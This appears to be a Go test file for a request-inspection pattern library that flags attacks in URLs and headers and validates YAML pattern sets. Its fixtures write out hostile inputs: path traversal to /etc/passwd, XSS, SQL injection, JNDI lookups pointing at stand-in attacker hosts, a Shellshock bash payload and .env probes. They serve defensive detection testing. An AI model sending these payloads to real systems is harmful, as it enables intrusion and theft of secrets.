package patterns

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestDefault_Loads(t *testing.T) {
	set := Default()
	if set == nil {
		t.Fatal("Default() returned nil")
	}
	if set.Version() == "" {
		t.Error("Expected embedded set to carry a version")
	}
	if set.URLCount() == 0 || set.HeaderCount() == 0 {
		t.Errorf("Expected URL and header patterns, got url=%d header=%d", set.URLCount(), set.HeaderCount())
	}
}

func TestDefault_MatchURL(t *testing.T) {
	set := Default()

	tests := []struct {
		name  string
		value string
		want  string // a label that must be present, empty for no match
	}{
		{"clean path", "/api/leads", ""},
		{"clean query", "/search?q=iphone+13&page=2", ""},
		{"next static", "/_next/static/chunks/main.js", ""},
		{"traversal", "/files?name=../../etc/passwd", "path traversal (../)"},
		{"passwd", "/etc/passwd", "sensitive system file"},
		{"windows traversal", `/download?f=..\..\boot.ini`, `path traversal (..\)`},
		{"double encoded traversal", "/a/%2e%2e%2fsecret", "encoded path traversal"},
		{"null byte", "/img.png\x00.php", "null byte"},
		{"script tag", "/search?q=<script>alert(1)</script>", "script tag"},
		{"script tag mixed case", "/q?<ScRiPt >", "script tag"},
		{"javascript uri", "/redirect?to=javascript:alert(1)", "javascript URI"},
		{"event handler", `/p?x="><img src=x onerror=alert(1)>`, "inline event handler"},
		{"union select", "/items?id=1 UNION ALL SELECT password FROM users", "SQL union select"},
		{"tautology", "/login?u=admin' OR '1'='1", "SQL tautology"},
		{"jndi", "/x?${jndi:ldap://evil/a}", "JNDI lookup"},
		{"dotenv", "/.env", "dotfile probe"},
		{"dotenv local", "/.env.local", "dotfile probe"},
		{"git config", "/.git/config", "dotfile probe"},
		{"wordpress", "/wp-login.php", "wordpress probe"},
		{"phpmyadmin", "/phpmyadmin/", "php probe"},
		{"crlf", "/x?a=b\r\nSet-Cookie: x=y", "CRLF injection"},
		{"proto pollution", "/x?__proto__[admin]=1", "prototype pollution"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := set.MatchURL(tt.value)
			if tt.want == "" {
				if len(got) != 0 {
					t.Errorf("MatchURL(%q) = %v, want no matches", tt.value, got)
				}
				return
			}
			found := false
			for _, label := range got {
				if label == tt.want {
					found = true
					break
				}
			}
			if !found {
				t.Errorf("MatchURL(%q) = %v, want it to contain %q", tt.value, got, tt.want)
			}
		})
	}
}

func TestDefault_MatchURLReturnsAllMatches(t *testing.T) {
	got := Default().MatchURL("/x?a=../../etc/passwd&b=<script>")
	want := []string{"path traversal (../)", "sensitive system file", "script tag"}
	for _, label := range want {
		if !contains(got, label) {
			t.Errorf("MatchURL() = %v, missing %q", got, label)
		}
	}
}

func TestDefault_MatchHeader(t *testing.T) {
	set := Default()

	tests := []struct {
		value string
		want  bool
	}{
		{"", false},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36", false},
		{"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", false},
		{"gzip, deflate, br", false},
		{"ru-RU,ru;q=0.9,en-US;q=0.8", false},
		{"https://app.example.com/leads?page=2", false},
		{"session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc; theme=dark", false},
		{"x-custom", false},
		{"normal-value", false},
		{"<script>alert(1)</script>", true},
		{"${jndi:ldap://attacker/a}", true},
		{"() { :; }; /bin/bash -c 'id'", true},
		{"../../../../etc/passwd", true},
		{"javascript:alert(1)", true},
	}

	for _, tt := range tests {
		t.Run(tt.value, func(t *testing.T) {
			if got := set.MatchHeader(tt.value); got != tt.want {
				t.Errorf("MatchHeader(%q) = %v, want %v", tt.value, got, tt.want)
			}
		})
	}
}

func TestDefault_ProbesAreURLOnly(t *testing.T) {
	// A referer pointing at a wp-admin page is not itself an attack.
	if Default().MatchHeader("https://blog.example.com/wp-admin/") {
		t.Error("Expected URL-only probe patterns to be ignored for headers")
	}
}

func TestParse_Valid(t *testing.T) {
	doc := `
version: "test-1"
patterns:
  - label: "secret word"
    kind: substring
    value: "Swordfish"
    targets: [url, header]
  - label: "exact case"
    kind: substring
    value: "CaseOnly"
    case_sensitive: true
    targets: [url]
  - label: "digits"
    kind: regex
    value: '\d{6}'
    targets: [header]
`
	set, err := Parse([]byte(doc))
	if err != nil {
		t.Fatalf("Parse() error = %v", err)
	}
	if set.Version() != "test-1" {
		t.Errorf("Version() = %q, want %q", set.Version(), "test-1")
	}
	if set.Len() != 3 || set.URLCount() != 2 || set.HeaderCount() != 2 {
		t.Errorf("counts = %d/%d/%d, want 3/2/2", set.Len(), set.URLCount(), set.HeaderCount())
	}

	if got := set.MatchURL("/a?pw=SWORDFISH"); !reflect.DeepEqual(got, []string{"secret word"}) {
		t.Errorf("case-insensitive substring: got %v", got)
	}
	if got := set.MatchURL("/caseonly"); len(got) != 0 {
		t.Errorf("case-sensitive substring matched wrong case: %v", got)
	}
	if got := set.MatchURL("/CaseOnly/swordfish"); !reflect.DeepEqual(got, []string{"secret word", "exact case"}) {
		t.Errorf("expected document order, got %v", got)
	}
	if !set.MatchHeader("otp 123456") {
		t.Error("expected header regex to match")
	}
	if set.MatchHeader("/CaseOnly") {
		t.Error("URL-only pattern must not apply to headers")
	}
}

func TestParse_Invalid(t *testing.T) {
	tests := []struct {
		name    string
		doc     string
		wantErr error
	}{
		{"no version", `patterns: [{label: a, value: b, targets: [url]}]`, ErrMissingVersion},
		{"no patterns", `version: "1"`, ErrNoPatterns},
		{"empty label", `{version: "1", patterns: [{value: b, targets: [url]}]}`, ErrEmptyLabel},
		{"empty value", `{version: "1", patterns: [{label: a, targets: [url]}]}`, ErrEmptyValue},
		{"no targets", `{version: "1", patterns: [{label: a, value: b}]}`, ErrNoTargets},
		{"bad target", `{version: "1", patterns: [{label: a, value: b, targets: [body]}]}`, ErrUnknownTarget},
		{"bad kind", `{version: "1", patterns: [{label: a, kind: glob, value: b, targets: [url]}]}`, ErrUnknownKind},
		{"bad regex", `{version: "1", patterns: [{label: a, kind: regex, value: "(unclosed", targets: [url]}]}`, ErrInvalidRegex},
		{"duplicate label", `{version: "1", patterns: [{label: a, value: b, targets: [url]}, {label: a, value: c, targets: [url]}]}`, ErrDuplicateLabel},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Parse([]byte(tt.doc))
			if !errors.Is(err, tt.wantErr) {
				t.Errorf("Parse() error = %v, want %v", err, tt.wantErr)
			}
		})
	}
}

func TestParse_InvalidYAML(t *testing.T) {
	_, err := Parse([]byte("version: [unterminated"))
	if err == nil || !strings.Contains(err.Error(), "invalid YAML") {
		t.Errorf("Parse() error = %v, want invalid YAML error", err)
	}
}

func contains(list []string, s string) bool {
	for _, v := range list {
		if v == s {
			return true
		}
	}
	return false
}
